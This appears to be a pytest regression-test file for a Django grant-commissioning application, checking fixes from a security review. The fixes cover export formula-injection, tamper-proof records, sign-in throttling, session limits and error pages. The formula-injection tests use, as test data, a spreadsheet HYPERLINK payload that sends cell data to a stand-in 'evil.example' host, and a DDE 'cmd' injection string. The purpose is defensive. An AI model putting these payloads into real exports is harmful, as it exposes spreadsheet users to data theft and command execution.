"""Regression tests for the attack review's findings (issue 10), in its order. The ones about races send real
parallel requests on PostgreSQL in tests/web/test_hardening_races.py; the server-level ones (connection leak,
production serving) start real servers in tests/web/test_serving.py."""

from __future__ import annotations

import csv
import io
import time
from datetime import timedelta

import pytest
from django.contrib.auth import get_user_model
from django.db import IntegrityError, connection, transaction
from django.db.models import ProtectedError
from django.test import Client, override_settings
from django.urls import reverse
from django.utils import timezone

from svduty.web.core.dbguards import AppendOnlyError

from .conftest import client_for

pytestmark = pytest.mark.django_db


def user(name):
    return get_user_model().objects.get(username=name)


# Finding 2: formula injection in exports ------------------------------------------------------------------------


def test_360giving_csv_cells_cannot_be_formulas(world):
    """An organisation name and an EOI title typed as formulas are published as text (OWASP: leading quote)."""
    from svduty.web.commissioning.models import Application

    app = Application.objects.filter(award__decision_record__reference="DN50-24").select_related("organisation")[0]
    org = app.organisation
    org.name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    org.save()
    Application.objects.filter(pk=app.pk).update(title="+cmd|' /C calc'!A0")
    body = client_for("public").get(reverse("public:360giving_csv")).content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    header, data = rows[0], rows[1:]
    assert len(data) == 8  # the eight DN50-24 grants, nothing lost
    cells = [c for row in data for c in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Click")' in cells
    assert any(c.startswith("'+cmd") for c in cells)
    # No cell of the file (header included) starts with a character a spreadsheet reads as a formula.
    assert not [c for c in [*header, *cells] if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    # Amounts stay numbers.
    amounts = [float(row[header.index("Amount Awarded")]) for row in data]
    assert sum(amounts) == 467_000


def test_export_helper_neutralises_csv_and_xlsx_and_keeps_numbers():
    from openpyxl import load_workbook

    from svduty.web.core.exports import csv_text, neutralise, xlsx_bytes

    evil = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "plain", "a=b"]
    assert [neutralise(v) for v in evil] == ["'=1+1", "'+1", "'-2+3", "'@SUM(A1)", "'\t=1", "'\r=1", "plain", "a=b"]
    assert neutralise(-250) == -250 and neutralise(None) is None
    parsed = list(csv.reader(io.StringIO(csv_text(["name"], [[v] for v in evil]))))
    assert [r[0] for r in parsed[1:]] == [neutralise(v) for v in evil]
    sheet = load_workbook(io.BytesIO(xlsx_bytes(["name", "amount"], [[v, -250] for v in evil]))).active
    cells = list(sheet.iter_rows(min_row=2))
    assert all(row[0].data_type == "s" for row in cells)  # never "f"
    # (XML stores a carriage return as a line feed; the leading quote is what matters.)
    # openpyxl versions differ in whether a CR reads back as CR or LF; what matters is the leading quote
    assert [row[0].value.replace("\r", "\n") for row in cells] == [neutralise(v).replace("\r", "\n") for v in evil]
    assert all(row[1].value == -250 and row[1].data_type == "n" for row in cells)


@override_settings(CACHES={"default": {"BACKEND": "django.core.cache.backends.locmem.LocMemCache"}})
def test_cached_360giving_files_follow_every_change(world, monkeypatch):
    """The exports are built once and cached; an edit to what they show (here an organisation's name, saved as an
    officer would) makes the next download new."""
    from svduty.web.commissioning.models import Application
    from svduty.web.public import giving360
    from svduty.web.public.giving360 import cached_export

    builds = []
    real_package = giving360.package
    monkeypatch.setattr(giving360, "package", lambda **kw: builds.append(1) or real_package(**kw))
    first = cached_export("csv")
    assert cached_export("csv") == first and len(builds) == 1  # the second download came from the cache
    org = Application.objects.filter(award__decision_record__reference="DN50-24")[0].organisation
    org.name = "Renamed Youth Trust"
    org.save()
    again = cached_export("csv")
    assert b"Renamed Youth Trust" in again and again != first and len(builds) == 2
    assert b"Renamed Youth Trust" in cached_export("json")


# Finding 3 (the part a single request can show): constraints and the form ---------------------------------------


def test_database_refuses_duplicate_numbers_and_names(world):
    from svduty.web.partnership.models import Organisation

    existing = Organisation.objects.exclude(charity_number="").first()
    for fields in (
        {"name": "Another", "charity_number": existing.charity_number},
        {"name": existing.name.upper()},
        {"name": f"  {existing.name}  "},  # trimmed before saving
    ):
        with pytest.raises(IntegrityError), transaction.atomic():
            Organisation.objects.create(kind="provider", **fields)
    company = Organisation.objects.exclude(company_number="").first()
    if company:
        with pytest.raises(IntegrityError), transaction.atomic():
            Organisation.objects.create(name="Yet another", kind="provider", company_number=company.company_number)
    # Blank numbers are not "the same number".
    Organisation.objects.create(name="No number one", kind="provider")
    Organisation.objects.create(name="No number two", kind="provider")


def test_registration_losing_a_race_gets_a_form_error_not_a_500(world, monkeypatch):
    """The check passed, then another registration committed the same number before the insert: the constraint
    refuses it and the applicant sees which field clashed."""
    from svduty.web.core import forms_register
    from svduty.web.partnership.models import Organisation

    data = _registration("Racing Youth Trust", "1999555", "racer@example.org")
    real_save = forms_register.ProviderRegistrationForm.save

    def save_after_a_rival(self):
        Organisation.objects.create(name="Rival Trust", kind="voluntary", charity_number="1999555")
        return real_save(self)

    monkeypatch.setattr(forms_register.ProviderRegistrationForm, "save", save_after_a_rival)
    page = Client(raise_request_exception=False).post(reverse("core:register"), data)
    assert page.status_code == 200
    assert "An organisation with this charity number is already registered" in page.content.decode()
    assert Organisation.objects.filter(charity_number="1999555").count() == 1
    assert not get_user_model().objects.filter(email="racer@example.org").exists()


def _registration(name, charity, email, first="Sam", last="Jones"):
    return {
        "organisation_name": name,
        "kind": "voluntary",
        "charity_number": charity,
        "company_number": "",
        "town": "Demoshire City",
        "first_name": first,
        "last_name": last,
        "email": email,
        "password": "a-very-long-Passphrase-42",
    }


# Finding 4: admin and the database keep evidence -----------------------------------------------------------------


def test_admin_cannot_delete_or_edit_records_ledger_or_status(world):
    from svduty.web.decisions.models import DecisionRecord
    from svduty.web.funding.models import Budget

    admin = client_for("admin")
    dn51 = DecisionRecord.objects.get(reference="DN51-24")
    events = dn51.events.count()
    assert admin.get(reverse("admin:decisions_decisionrecord_delete", args=[dn51.pk])).status_code == 403
    assert admin.post(reverse("admin:decisions_decisionrecord_delete", args=[dn51.pk]), {"post": "yes"}).status_code
    changelist = admin.post(
        reverse("admin:decisions_decisionrecord_changelist"),
        {"action": "delete_selected", "_selected_action": [dn51.pk], "post": "yes"},
    )
    assert changelist.status_code in (200, 302)
    assert DecisionRecord.objects.filter(pk=dn51.pk).exists() and dn51.events.count() == events
    assert client_for("public").get(reverse("public:decision", args=["DN51-24"])).status_code == 200
    # Ledger rows: view only.
    c = world.commitment
    assert admin.get(reverse("admin:funding_commitment_change", args=[c.pk])).status_code == 200
    admin.post(reverse("admin:funding_commitment_change", args=[c.pk]), {"released": "", "amount_pence": "1"})
    c.refresh_from_db()
    assert c.amount_pence != 1
    assert admin.post(reverse("admin:funding_commitment_delete", args=[c.pk]), {"post": "yes"}).status_code == 403
    # Budgets are shown on the stream, not edited there.
    page = admin.get(reverse("admin:funding_fundingstream_change", args=[world.stream.pk])).content.decode()
    budget = Budget.objects.filter(stream=world.stream).first()
    assert f'name="budgets-0-amount_pence" value="{budget.amount_pence}"' not in page
    # An EOI's status is the workflow's: not a field on the admin form.
    page = admin.get(reverse("admin:commissioning_application_change", args=[world.awarded_app.pk])).content.decode()
    assert 'name="status"' not in page
    assert admin.get(reverse("admin:commissioning_award_delete", args=[world.awarded_app.award.pk])).status_code == 403
    # History cannot be reverted to an older version from admin.
    oldest = dn51.history.last()
    revert = reverse("admin:decisions_decisionrecord_simple_history", args=[dn51.pk, oldest.history_id])
    admin.post(revert, {"title": "Reverted"})
    dn51.refresh_from_db()
    assert dn51.title != "Reverted" and dn51.state == "published"


def test_model_guards_refuse_deleting_or_editing_evidence(world):
    from svduty.web.decisions.models import DecisionEvent, DecisionRecord
    from svduty.web.funding.models import Commitment, Spend

    dn51 = DecisionRecord.objects.get(reference="DN51-24")
    with pytest.raises(AppendOnlyError), transaction.atomic():
        dn51.delete()
    with pytest.raises(AppendOnlyError), transaction.atomic():
        DecisionRecord.objects.filter(pk=dn51.pk).delete()
    with pytest.raises(AppendOnlyError), transaction.atomic():
        DecisionEvent.objects.filter(record=dn51).delete()
    dn51.title = "Rewritten"
    with pytest.raises(AppendOnlyError), transaction.atomic():
        dn51.save()
    released = world.commitment
    with pytest.raises((AppendOnlyError, ProtectedError)), transaction.atomic():
        released.delete()
    released.amount_pence += 1
    with pytest.raises(AppendOnlyError), transaction.atomic():
        released.save()
    spend = Spend.objects.first()
    if spend:
        spend.amount_pence += 1
        with pytest.raises(AppendOnlyError), transaction.atomic():
            spend.save()
    with pytest.raises(AppendOnlyError), transaction.atomic():
        Commitment.objects.filter(spend__isnull=True).delete()
    assert DecisionRecord.objects.get(pk=dn51.pk).title != "Rewritten"


@pytest.mark.postgres
def test_postgresql_triggers_refuse_what_the_application_would(world):
    """Database-level protection: even raw SQL cannot delete the step log or change a published record."""
    from django.conf import settings

    if settings.SVDUTY_TEST_DATABASE == "sqlite3":
        pytest.skip("the triggers are a PostgreSQL matter (SQLite has the model-level guards)")
    from svduty.web.decisions.models import DecisionRecord

    dn51 = DecisionRecord.objects.get(reference="DN51-24")
    statements = [
        ("DELETE FROM decisions_decisionevent WHERE record_id = %s", [dn51.pk]),
        ("UPDATE decisions_decisionevent SET note = 'x' WHERE record_id = %s", [dn51.pk]),
        ("DELETE FROM decisions_decisionrecord WHERE id = %s", [dn51.pk]),
        ("UPDATE decisions_decisionrecord SET title = 'x' WHERE id = %s", [dn51.pk]),
        ("UPDATE decisions_historicaldecisionrecord SET title = 'x' WHERE id = %s", [dn51.pk]),
        ("DELETE FROM decisions_historicaldecisionrecord WHERE id = %s", [dn51.pk]),
        ("UPDATE funding_commitment SET amount_pence = amount_pence + 1 WHERE id = %s", [world.commitment.pk]),
        ("DELETE FROM funding_commitment WHERE id = %s", [world.commitment.pk]),
        ("UPDATE funding_spend SET amount_pence = 1", []),
        ("DELETE FROM funding_historicalbudget", []),
        ("DELETE FROM commissioning_award WHERE id = %s", [world.awarded_app.award.pk]),
    ]
    statements.append(("UPDATE decisions_decisionrecord SET state = 'draft' WHERE state = 'decided'", []))
    for sql, params in statements:
        with pytest.raises(IntegrityError, match="svduty: "), transaction.atomic(), connection.cursor() as cursor:
            cursor.execute(sql, params)
            if cursor.rowcount == 0:
                raise IntegrityError(f"svduty: (nothing matched {sql})")
    # What the workflow does is still allowed: releasing a commitment, drafting, approving.
    with connection.cursor() as cursor:
        cursor.execute("UPDATE funding_commitment SET released = true WHERE id = %s", [world.commitment.pk])
        with pytest.raises(IntegrityError), transaction.atomic(), connection.cursor() as inner:
            inner.execute("UPDATE funding_commitment SET released = false WHERE id = %s", [world.commitment.pk])


# Finding 5: the public PDF is rendered once ----------------------------------------------------------------------


def test_public_pdf_is_rendered_once_and_served_stored(world, monkeypatch):
    from svduty.web.decisions import views as decision_views
    from svduty.web.decisions.models import PublishedPDF

    url = reverse("public:decision_pdf", args=["DN50-24"])
    public = client_for("public")
    first = public.get(url)
    assert first.status_code == 200 and first.content.startswith(b"%PDF")
    assert PublishedPDF.objects.filter(record__reference="DN50-24").count() == 1

    def no_rendering(*args, **kwargs):
        raise AssertionError("WeasyPrint ran again for an anonymous request")

    monkeypatch.setattr(decision_views, "render_pdf", no_rendering)
    again = public.get(url)
    assert again.content == first.content
    assert public.get(url, HTTP_IF_NONE_MATCH=first["ETag"]).status_code == 304
    # A record that is not yet visible still 404s, stored PDF or not.
    assert public.get(reverse("public:decision_pdf", args=["DN38-25"])).status_code == 404


def test_publishing_stores_the_pdf(world):
    from svduty.web.decisions.models import DecisionRecord, PublishedPDF

    record = DecisionRecord.objects.filter(state="decided").first()
    response = client_for("officer").post(reverse("decisions:publish", args=[record.reference]))
    assert response.status_code == 302
    assert PublishedPDF.objects.get(record=record).pdf[:4] == b"%PDF"


# Finding 6: no 500s --------------------------------------------------------------------------------------------


def test_second_publish_is_an_already_done_message(world, monkeypatch):
    """The losing request passed its permission check on a copy loaded before the winner's publish landed; the
    workflow then refuses it, and the user is told it is done instead of getting a 500. (The same with two real
    requests in parallel: test_hardening_races.py.)"""
    from svduty.web.decisions import permissions
    from svduty.web.decisions.models import DecisionRecord

    record = DecisionRecord.objects.filter(state="decided").first()
    url = reverse("decisions:publish", args=[record.reference])
    assert client_for("officer").post(url).status_code == 302
    monkeypatch.setattr(permissions, "can_publish", lambda user, rec: True)  # the stale check, as in the race
    pcc = Client(raise_request_exception=False)
    pcc.force_login(user("pcc"))
    response = pcc.post(url, follow=True)
    assert response.status_code == 200
    assert "was already published" in response.content.decode()
    assert list(record.events.filter(action="publish").values_list("user__username", flat=True)) == ["officer"]


def test_second_submit_is_an_already_done_message(world, monkeypatch):
    from svduty.web.commissioning import application_forms as commissioning_forms
    from svduty.web.commissioning import permissions
    from svduty.web.commissioning.models import Application
    from svduty.web.commissioning.options import ApplicationStatus

    monkeypatch.setattr(commissioning_forms, "missing_for_submission", lambda app: [])
    monkeypatch.setattr("svduty.web.commissioning.applicant_views.missing_for_submission", lambda app: [])
    Application.objects.filter(pk=world.draft.pk).update(status=ApplicationStatus.SUBMITTED)
    monkeypatch.setattr(permissions, "can_submit_application", lambda user, app, today=None: True)
    provider = Client(raise_request_exception=False)
    provider.force_login(user("provider"))
    response = provider.post(reverse("commissioning:application_submit", args=[world.draft.pk]), follow=True)
    assert response.status_code == 200 and "was already submitted" in response.content.decode()


def test_nul_byte_in_a_url_is_a_404_and_in_a_query_a_400(world):
    public = Client(raise_request_exception=False)
    for url in ("/public/decisions/DN50-24%00/", "/public/decisions/DN50-24%00/pdf/", "/%00"):
        response = public.get(url)
        assert response.status_code == 404, url
        assert "Page not found" in response.content.decode()
    officer = client_for("officer")
    officer.raise_request_exception = False
    assert officer.get("/decisions/?state=%00").status_code == 400


# Finding 7: scores are fixed once moderated -----------------------------------------------------------------------


def test_assessor_cannot_change_a_score_after_moderation(world):
    from svduty.web.commissioning.models import Criterion, Review

    app = world.submitted_scored
    criterion = Criterion.objects.filter(round=app.round).first() or Criterion.objects.create(
        round=app.round, name="Fit", weight=1, max_score=5
    )
    field = f"criterion_{criterion.pk}"
    assessor = client_for("assessor")
    url = reverse("commissioning:score", args=[app.pk])
    others = {f"criterion_{c.pk}": "1" for c in Criterion.objects.filter(round=app.round)}
    assert assessor.post(url, {**others, field: "2", "comment": "ok", "recommendation": "yes"}).status_code == 302
    officer = client_for("officer")
    moderated = officer.post(
        reverse("commissioning:moderate", args=[app.pk]), {"score_percent": "55", "reason": "Panel agreed"}
    )
    assert moderated.status_code == 302
    response = assessor.post(
        url, {**others, field: "5", "comment": "changed my mind", "recommendation": "no"}, follow=True
    )
    assert "has been moderated, so scores are fixed" in response.content.decode()
    review = Review.objects.get(application=app, assessor=user("assessor"))
    assert review.scores.get(criterion=criterion).score == 2 and review.comment == "ok"
    page = assessor.get(url).content.decode()
    assert "Scores are fixed" in page and "Save scores" not in page


# Finding 8: sign-in throttling behind a proxy -------------------------------------------------------------------

PROXY = "10.0.0.1"


def _sign_in(username, password, client_address, *, via=PROXY):
    """A sign-in as the TLS proxy passes it on: from the proxy's address, the client's in X-Forwarded-For."""
    client = Client(REMOTE_ADDR=via, HTTP_X_FORWARDED_FOR=client_address)
    return client.post(reverse("core:login"), {"username": username, "password": password})


@override_settings(SVDUTY_TRUSTED_PROXIES=[PROXY])
def test_a_stranger_behind_the_proxy_cannot_lock_out_the_real_user(world):
    for _ in range(6):
        _sign_in("officer", "wrong", "203.0.113.5")
    assert _sign_in("officer", "svduty-demo", "203.0.113.5").status_code == 429  # the stranger waits
    assert _sign_in("officer", "svduty-demo", "198.51.100.7").status_code == 302  # the officer does not


@override_settings(SVDUTY_TRUSTED_PROXIES=[PROXY])
def test_one_password_across_many_usernames_is_limited_per_address(world):
    for i in range(20):
        _sign_in(f"guess{i}", "Summer2024!", "203.0.113.6")
    # The address is now stopped whatever it tries; others are not.
    assert _sign_in("officer", "svduty-demo", "203.0.113.6").status_code == 429
    assert _sign_in("officer", "svduty-demo", "198.51.100.8").status_code == 302


@override_settings(SVDUTY_TRUSTED_PROXIES=[PROXY])
def test_one_account_from_many_addresses_is_limited_and_the_lock_is_short(world):
    from axes.models import AccessAttempt

    for i in range(30):
        _sign_in("pcc", "wrong", f"203.0.113.{100 + i}")
    assert _sign_in("pcc", "svduty-demo", "198.51.100.9").status_code == 429
    # The cool-off is short (15 minutes), not an hour: once it has passed the PCC signs in.
    AccessAttempt.objects.update(attempt_time=timezone.now() - timedelta(minutes=16))
    assert _sign_in("pcc", "svduty-demo", "198.51.100.9").status_code == 302


@override_settings(SVDUTY_TRUSTED_PROXIES=[PROXY])
def test_forwarded_for_from_an_untrusted_address_is_ignored(world):
    for i in range(6):
        _sign_in("ceo", "wrong", f"192.0.2.{i}", via="203.0.113.50")  # spoofed header, not from the proxy
    assert _sign_in("ceo", "svduty-demo", "192.0.2.99", via="203.0.113.50").status_code == 429


def test_registration_does_not_reveal_which_usernames_exist(world):
    page = Client().get(reverse("core:register")).content.decode()
    assert 'name="username"' not in page
    first = Client().post(reverse("core:register"), _registration("Alpha Trust", "", "a1@example.org", "Ann", "Lee"))
    second = Client().post(reverse("core:register"), _registration("Beta Trust", "", "a2@example.org", "Ann", "Lee"))
    assert first.status_code == second.status_code == 302
    names = set(
        get_user_model()
        .objects.filter(email__in=["a1@example.org", "a2@example.org"])
        .values_list("username", flat=True)
    )
    assert len(names) == 2 and all(n.startswith("ann.lee-") for n in names)
    # Registering with an existing user's name neither fails nor says anything about that account.
    officer = user("officer")
    third = Client().post(
        reverse("core:register"),
        _registration("Gamma Trust", "", "a3@example.org", officer.first_name or "officer", officer.last_name or "x"),
    )
    assert third.status_code == 302


# Finding 9: defaults ----------------------------------------------------------------------------------------------


def test_staff_sessions_have_an_absolute_lifetime_and_everyone_an_idle_timeout(world):
    from django.conf import settings

    assert settings.SESSION_COOKIE_AGE == 8 * 3600  # a working day idle
    officer = client_for("officer")
    assert officer.get(reverse("decisions:list")).status_code == 200
    session = officer.session
    session["svduty_signed_in_at"] = int(time.time()) - 13 * 3600
    session.save()
    response = officer.get(reverse("decisions:list"))
    assert response.status_code == 302 and reverse("core:login") in response["Location"]
    assert officer.get(reverse("decisions:list")).status_code == 302  # signed out, not just redirected once
    provider = client_for("provider")
    session = provider.session
    session["svduty_signed_in_at"] = int(time.time()) - 13 * 3600
    session.save()
    assert provider.get(reverse("commissioning:my_applications")).status_code == 200


def test_styled_error_pages_for_anonymous_visitors(world, monkeypatch):
    from svduty.web.public import giving360

    public = Client(raise_request_exception=False)
    missing = public.get("/no/such/page/")
    html = missing.content.decode()
    assert missing.status_code == 404 and "Page not found" in html and "govuk-frontend" in html
    assert "Traceback" not in html and "URLconf" not in html

    def boom():
        raise RuntimeError("secret internal detail")

    monkeypatch.setattr(giving360, "package", boom)
    failed = public.get(reverse("public:360giving_json"))
    html = failed.content.decode()
    assert failed.status_code == 500
    assert "Sorry, there is a problem with the service" in html and "govuk-header" in html
    assert "secret internal detail" not in html and "Traceback" not in html

    # When the page furniture itself cannot be built (the database is what failed), a plain styled page stands in.
    from svduty.web.core import views as core_views

    def render_fails(*args, **kwargs):
        raise RuntimeError("database down")

    monkeypatch.setattr(core_views, "render", render_fails)
    plain = public.get(reverse("public:360giving_json"))
    html = plain.content.decode()
    assert plain.status_code == 500 and "Sorry, there is a problem with the service" in html
    assert "govuk-frontend" in html and "database down" not in html
